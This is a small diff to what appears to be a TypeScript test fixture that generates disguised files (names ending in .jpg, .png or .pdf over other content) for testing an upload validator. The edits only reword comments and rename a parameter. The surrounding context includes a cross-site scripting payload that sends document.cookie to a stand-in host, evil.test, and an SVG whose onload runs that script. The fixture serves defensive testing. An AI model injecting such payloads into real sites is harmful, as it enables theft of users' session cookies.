@@ -1,7 +1,7 @@
 import { deflateRawSync, gzipSync } from 'node:zlib'
 import { type HostileFile, noise } from './hostile-file.ts'
 
-/** Files of kinds that are not taken, under names that are. */
+/** Files of types that are not accepted, under names that are. */
 export function foreignFiles(): HostileFile[] {
 	const names = ['licence.jpg', 'licence.png', 'licence.pdf', 'photo.jpeg']
 	return Object.entries(kinds()).map(([what, bytes], index) => ({
@@ -15,9 +15,9 @@ export function foreignFiles(): HostileFile[] {
 const script = '<script>fetch("https://evil.test/?"+document.cookie)</script>'
 
 function kinds(): Record<string, Buffer> {
-	const text = (words: string) => Buffer.from(words)
+	const text = (content: string) => Buffer.from(content)
 	const head = (hex: string, rest = noise(400)) => Buffer.concat([Buffer.from(hex, 'hex'), rest])
-	/** A box of the family that MP4, HEIC and AVIF belong to. */
+	/** The first box of the format family of MP4, HEIC and AVIF. */
 	const brand = (name: string) =>
 		Buffer.concat([Buffer.from([0, 0, 0, 24]), text(`ftyp${name}\0\0\0\0mif1${name}`), noise(400)])
 	const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
